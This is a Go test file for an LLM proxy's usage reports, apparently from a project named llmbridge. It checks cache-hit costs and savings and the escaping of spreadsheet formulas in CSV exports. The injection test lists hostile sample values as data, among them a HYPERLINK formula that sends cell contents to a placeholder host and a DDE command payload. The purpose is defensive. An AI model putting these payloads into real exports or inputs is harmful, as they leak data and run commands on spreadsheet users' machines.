package admin

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/llmbridge/llmbridge"
	"github.com/llmbridge/llmbridge/internal/golden"
	"github.com/llmbridge/llmbridge/internal/usage"
)

// hitRow is a priced response-cache hit: no tokens spent, the cached
// answer's counts in Saved.
func hitRow(at time.Time, key, provider, model string, prompt, cached, completion int) usage.Row {
	return usage.RowOf(llmbridge.UsageRecord{ID: llmbridge.NewRecordID(at), Time: at, RequestID: "req_hit", KeyID: key, Provider: provider,
		Model: provider + "/" + model, UpstreamModel: model, Status: 200, Duration: time.Millisecond, Cache: llmbridge.CacheHit,
		Saved: llmbridge.TokenCounts{Prompt: prompt, Cached: cached, Completion: completion, Total: prompt + completion}}, usage.DefaultPrices())
}

// seededWithHits is seeded plus two cache hits: one of key-a's
// gpt-4o-mini requests (saves 400 × 0.15 + 600 × 0.075 + 200 × 0.60 =
// 225 µ$) and one of key-b's claude-sonnet-4-5 on the second day (saves
// 25 × 3 + 100 × 0.30 + 10 × 15 = 255 µ$).
func seededWithHits(t testing.TB) *usage.Store {
	s := seeded(t)
	if _, err := s.Insert(context.Background(), []usage.Row{
		hitRow(day1.Add(4*time.Hour), "key-a", "openai", "gpt-4o-mini", 1000, 600, 200),
		hitRow(day1.AddDate(0, 0, 1).Add(time.Hour), "key-b", "anthropic", "claude-sonnet-4-5", 125, 100, 10),
	}); err != nil {
		t.Fatal(err)
	}
	return s
}

func hitsReport(t *testing.T) *usage.Report {
	t.Helper()
	rep, err := seededWithHits(t).Report(context.Background(), usage.Query{From: "2026-11-23", To: "2026-11-24", GroupBy: []string{"model", "key"}})
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

// TestReportTable pins the text table of the usage command (golden
// file), cache hits included; the admin API tests pin its JSON and CSV.
func TestReportTable(t *testing.T) {
	var b bytes.Buffer
	if err := WriteReportTable(&b, hitsReport(t)); err != nil {
		t.Fatal(err)
	}
	golden.Check(t, "report.golden.txt", b.Bytes())
}

// TestReportCacheColumns pins the JSON and CSV of a report with cache
// hits (golden files) and checks their numbers: a hit costs nothing,
// counts in cache_hits and adds what it saved to saved_usd.
func TestReportCacheColumns(t *testing.T) {
	rep := hitsReport(t)
	body := ReportJSON(rep)
	golden.Check(t, "report_hits.golden.json", golden.IndentJSON(t, body))
	var csv bytes.Buffer
	if err := WriteReportCSV(&csv, rep); err != nil {
		t.Fatal(err)
	}
	golden.Check(t, "report_hits.golden.csv", csv.Bytes())

	var got struct {
		Rows []struct {
			Model     string   `json:"model"`
			KeyID     string   `json:"key_id"`
			Requests  int64    `json:"requests"`
			CostUSD   *float64 `json:"cost_usd"`
			CacheHits *int64   `json:"cache_hits"`
			SavedUSD  *float64 `json:"saved_usd"`
		} `json:"rows"`
		Totals struct {
			CostUSD   float64  `json:"cost_usd"`
			CacheHits *int64   `json:"cache_hits"`
			SavedUSD  *float64 `json:"saved_usd"`
		} `json:"totals"`
	}
	if err := json.Unmarshal(body, &got); err != nil {
		t.Fatal(err)
	}
	want := map[string]struct {
		requests, hits int64
		cost, saved    float64
	}{
		"anthropic/claude-sonnet-4-5 key-a": {1, 0, 0.000255, 0},
		"anthropic/claude-sonnet-4-5 key-b": {1, 1, 0, 0.000255}, // only a hit: cost 0
		"gemini/gemini-exp-1206 key-b":      {1, 0, -1, 0},
		"openai/gpt-4o-mini key-a":          {2, 1, 0.000225, 0.000225},
		"openai/gpt-4o-mini key-b":          {2, 0, 0.00015, 0},
	}
	if len(got.Rows) != len(want) {
		t.Fatalf("%d rows: %s", len(got.Rows), body)
	}
	for _, r := range got.Rows {
		w, ok := want[r.Model+" "+r.KeyID]
		cost := -1.0
		if r.CostUSD != nil {
			cost = *r.CostUSD
		}
		if !ok || r.CacheHits == nil || r.SavedUSD == nil || r.Requests != w.requests || *r.CacheHits != w.hits || cost != w.cost || *r.SavedUSD != w.saved {
			t.Errorf("row %s %s: requests %d cost %v hits %v saved %v, want %+v", r.Model, r.KeyID, r.Requests, cost, r.CacheHits, r.SavedUSD, w)
		}
	}
	if tot := got.Totals; tot.CacheHits == nil || *tot.CacheHits != 2 || tot.SavedUSD == nil || *tot.SavedUSD != 0.00048 || tot.CostUSD != 0.00063 {
		t.Errorf("totals: %s", body)
	}
}

// injected are model names a client can send (they are stored for
// refused requests) that a spreadsheet would run as formulas, and
// harmless ones that must stay as they are.
var injected = []string{
	`=HYPERLINK("http://evil.example/?d="&A1,"click")`,
	`=cmd|' /C calc'!A0`,
	"+1+1",
	"-2+3",
	"@SUM(A1:A9)",
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	"openai/gpt-4o-mini",
	"a=b",
	"'=quoted",
	"",
}

// TestReportCSVInjection pins the CSV of client-chosen model and key
// names (golden file): a cell a spreadsheet would evaluate starts with a
// single quote, every other text cell and every number is unchanged.
func TestReportCSVInjection(t *testing.T) {
	s, err := usage.Open(context.Background(), filepath.Join(t.TempDir(), "u.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	var rows []usage.Row
	for i, m := range injected {
		at := day1.Add(time.Duration(i) * time.Minute)
		key := "key-a"
		if i%3 == 1 {
			key = "-" + key // a key id is the server's, but a report must not trust any text
		}
		rows = append(rows, usage.RowOf(llmbridge.UsageRecord{ID: llmbridge.NewRecordID(at), Time: at, KeyID: key, Model: m, Status: 401,
			Error: "=HYPERLINK(\"x\")", Duration: time.Millisecond}, usage.DefaultPrices()))
	}
	rows = append(rows, rec(day1, "@key-b", "openai", "gpt-4o-mini", 1000, 600, 200, 200))
	if _, err := s.Insert(context.Background(), rows); err != nil {
		t.Fatal(err)
	}
	rep, err := s.Report(context.Background(), usage.Query{From: "2026-11-23", To: "2026-11-23", GroupBy: []string{"model", "key", "provider"}})
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := WriteReportCSV(&out, rep); err != nil {
		t.Fatal(err)
	}
	golden.Check(t, "report_injection.golden.csv", out.Bytes())

	records, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != len(injected)+2 {
		t.Fatalf("%d lines, want a header and %d rows:\n%s", len(records), len(injected)+1, out.Bytes())
	}
	seen := map[string]bool{}
	for _, r := range records[1:] {
		for i, c := range r {
			if i < 3 {
				if c != "" && strings.ContainsRune("=+-@\t\r\n", rune(c[0])) {
					t.Errorf("text cell %q would be a formula", c)
				}
				if i == 0 {
					seen[c] = true
				}
				continue
			}
			if _, err := strconv.ParseFloat(c, 64); err != nil && c != "" {
				t.Errorf("number column %s: %q is not a number", records[0][i], c)
			}
		}
	}
	for _, m := range injected {
		want := m
		if m != "" && strings.ContainsRune("=+-@\t\r\n", rune(m[0])) {
			want = "'" + m
		}
		if !seen[want] {
			t.Errorf("model %q: no cell %q in\n%s", m, want, out.Bytes())
		}
	}
}

// textCell escapes only what a spreadsheet evaluates.
func TestTextCell(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@A1": "'@A1", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1",
		"gpt-4o": "gpt-4o", "a-1": "a-1", "'=1": "'=1", " =1": " =1", "": "", "１": "１",
	} {
		if got := textCell(in); got != want {
			t.Errorf("textCell(%q) = %q, want %q", in, got, want)
		}
	}
}
